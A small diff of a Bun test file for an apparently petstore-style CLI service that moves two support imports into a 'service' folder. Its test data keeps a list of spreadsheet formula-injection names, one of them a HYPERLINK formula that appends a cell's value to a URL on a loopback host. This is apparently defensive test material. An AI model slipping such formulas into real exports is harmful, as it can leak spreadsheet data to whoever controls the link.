@@ -1,8 +1,8 @@
 import { expect, test } from 'bun:test'
 import { readFileSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
-import { petstore } from '../support/cli.ts'
-import { freshFolder, freshSqliteUrl } from '../support/folder.ts'
+import { petstore } from '../support/service/cli.ts'
+import { freshFolder, freshSqliteUrl } from '../support/service/folder.ts'
 
 const NAMES = ['=HYPERLINK("http://127.0.0.1/?"&A1,"Rex")', '+1', '-2+3', '@SUM(A1)', 'Mia', 'Rex;=1']
 
